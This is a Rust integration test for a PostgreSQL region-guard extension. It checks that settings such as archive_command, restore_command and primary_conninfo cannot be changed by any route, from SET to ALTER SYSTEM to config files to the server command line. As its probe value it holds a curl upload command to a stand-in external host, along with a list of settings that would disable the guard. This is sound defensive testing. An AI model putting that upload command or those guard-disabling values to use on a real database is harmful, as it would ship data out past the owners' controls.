//! The settings gate, by every way in which a setting can be set. One node, known by its unix socket.

use integration::{Cluster, Result, Sql, Stop, wait_until};

/// What an outsider would want, and each of the settings that it could be given to.
const COMMAND: &str = "curl -T %p https://eu.example/";
const NAMES: [&str; 11] = [
    "archive_command",
    "archive_library",
    "archive_cleanup_command",
    "recovery_end_command",
    "restore_command",
    "ssl_passphrase_command",
    "primary_conninfo",
    "log_destination",
    "log_directory",
    "log_filename",
    "shared_preload_libraries",
];

/// What blinds the guard, with a value that would.
const BLINDS: [(&str, &str); 7] = [
    ("custodian.enforce", "off"),
    ("custodian.enforce_login", "off"),
    ("custodian.enforce_replication", "off"),
    ("custodian.enforce_ddl", "off"),
    ("custodian.enforce_access", "off"),
    ("custodian.enforce_settings", "off"),
    ("custodian.region_rules_file", "other.conf"),
];

fn value_of(name: &str) -> &'static str {
    match name {
        "primary_conninfo" => "host=198.51.100.7",
        "log_destination" => "syslog",
        "log_directory" => "/mnt/elsewhere",
        "log_filename" => "../../elsewhere/%a.log",
        "shared_preload_libraries" => "",
        _ => COMMAND,
    }
}

fn values(node: &Cluster) -> Result<String> {
    node.text(
        "SELECT string_agg(name || '=' || setting, E'\\n' ORDER BY name) FROM pg_settings
         WHERE name ~ '^(archive_|restore_command|recovery_end|ssl_passphrase|primary_conninfo|log_d|log_filename|shared_preload|custodian.enforce|custodian.region)'",
    )
}

#[test]
fn no_way_to_set_a_setting_leads_past_the_gate() -> Result<()> {
    let node = Cluster::builder("ways")
        .preload("pg_custodian")
        .conf("custodian.region = 'cn'")
        .conf("custodian.enforce = 'on'")
        .conf("archive_mode = on")
        .start()?;
    let parts = node.data_dir().join("conf.d");
    std::fs::create_dir(&parts)?;
    integration::host::give(&parts)?;
    node.append_conf("include_dir = 'conf.d'\ninclude_if_exists = 'more.conf'")?;
    node.write_file(
        "custodian_regions.conf",
        "region cn\nregion eu\nnetwork 198.51.100.0/24 eu shop\nlocal postgres\n",
    )?;
    node.reload()?;
    node.exec("CREATE ROLE app LOGIN")?;
    let before = values(&node)?;
    let guarded = NAMES.map(|name| (name, value_of(name)));

    // The server itself lets no session, role, database or function have these for itself.
    let mut client = node.client()?;
    for (name, value) in guarded.into_iter().chain(BLINDS) {
        for statement in [
            format!("SET {name} = '{value}'"),
            format!("SET LOCAL {name} = '{value}'"),
            format!("SELECT set_config('{name}', '{value}', false)"),
            format!("UPDATE pg_settings SET setting = '{value}' WHERE name = '{name}'"),
            format!("ALTER ROLE app SET {name} = '{value}'"),
            format!("ALTER ROLE ALL SET {name} = '{value}'"),
            format!("ALTER DATABASE postgres SET {name} = '{value}'"),
            format!("ALTER ROLE app IN DATABASE postgres SET {name} = '{value}'"),
            format!(
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET {name} = '{value}' AS 'SELECT 1'"
            ),
        ] {
            let error = client.refused(&statement);
            assert_eq!(error.sqlstate(), "55P02", "{statement}: {error}");
        }
        let output = node
            .program("psql")?
            .env(
                "PGOPTIONS",
                format!("-c {name}={}", value.replace(' ', "\\ ")),
            )
            .args(["-X", "-c", "SELECT 1"])
            .run()?;
        assert!(
            !output.success() && output.stderr.contains("cannot be changed"),
            "{name}: {output}"
        );
    }

    // What blinds the guard is not changed by ALTER SYSTEM from outside, not even by a superuser. Other settings are.
    node.exec("CREATE ROLE outsider LOGIN SUPERUSER")?;
    let mut outsider = node.client_as("outsider", "postgres")?;
    let mut statements: Vec<String> = BLINDS
        .into_iter()
        .chain([
            ("custodian.region", "eu"),
            ("custodian.steward_role", "app"),
        ])
        .flat_map(|(name, value)| {
            [
                format!("ALTER SYSTEM SET {name} = '{value}'"),
                format!("ALTER SYSTEM RESET {name}"),
            ]
        })
        .collect();
    statements.push("ALTER SYSTEM RESET ALL".to_owned());
    for statement in statements {
        let error = outsider.refused(&statement);
        assert_eq!(error.sqlstate(), "42501", "{statement}: {error}");
        let text = error.to_string();
        assert!(text.contains("settings of the region guard"), "{text}");
        // Who is locked out so may be the DBA.
        assert!(
            text.contains("edit the configuration file on the server"),
            "{text}"
        );
    }
    outsider.batch_execute("ALTER SYSTEM SET custodian.naptime = '1min'")?;
    client.batch_execute("ALTER SYSTEM SET custodian.enforce_access = 'on'")?;
    client.batch_execute("ALTER SYSTEM RESET ALL")?;

    // Files that the configuration includes, and the one that ALTER SYSTEM writes, by hand.
    // The server leaves the list of libraries there until its next start, whatever it is.
    let lines: String = guarded
        .iter()
        .filter(|(name, _)| *name != "shared_preload_libraries")
        .map(|(name, value)| format!("{name} = '{value}'\n"))
        .collect();
    for file in ["conf.d/50-more.conf", "more.conf", "postgresql.auto.conf"] {
        node.write_file(file, &format!("{lines}work_mem = '7MB'\n"))?;
        node.reload()?;
        // Each is refused by itself: what else is in the file comes into force.
        wait_until(&format!("{file} was read"), 60, || {
            node.text("SHOW work_mem").is_ok_and(|value| value == "7MB")
        });
        assert_eq!(values(&node)?, before, "{file}");
        node.write_file(file, "")?;
        node.reload()?;
        wait_until(&format!("{file} is empty"), 60, || {
            node.text("SHOW work_mem").is_ok_and(|value| value == "4MB")
        });
    }

    // The command line of the server comes before the library: what it says ships nothing, or is a finding.
    node.stop(Stop::Fast)?;
    node.start_under(&[
        "sh".to_owned(),
        "-c".to_owned(),
        format!(
            "exec \"$@\" -c 'archive_command={COMMAND}' -c 'archive_library={COMMAND}' -c 'archive_cleanup_command={COMMAND}' -c 'recovery_end_command={COMMAND}' \
             -c 'restore_command={COMMAND}' -c 'ssl_passphrase_command={COMMAND}' -c 'primary_conninfo=host=198.51.100.7' -c log_directory=/mnt/elsewhere \
             -c log_destination=syslog -c log_filename=../../elsewhere/%a.log"
        ),
        "sh".to_owned(),
    ])?;
    for name in [
        "archive_command",
        "archive_library",
        "archive_cleanup_command",
        "recovery_end_command",
    ] {
        assert_eq!(node.text(&format!("SHOW {name}"))?, "", "{name}");
    }
    node.exec("CREATE EXTENSION pg_custodian")?;
    assert_eq!(
        node.text(
            "SELECT string_agg(object, ',' ORDER BY object) FROM custodian.check() WHERE code = 'setting-not-allowed'"
        )?,
        "log_destination,log_directory,log_filename,primary_conninfo,restore_command,ssl_passphrase_command"
    );
    Ok(())
}
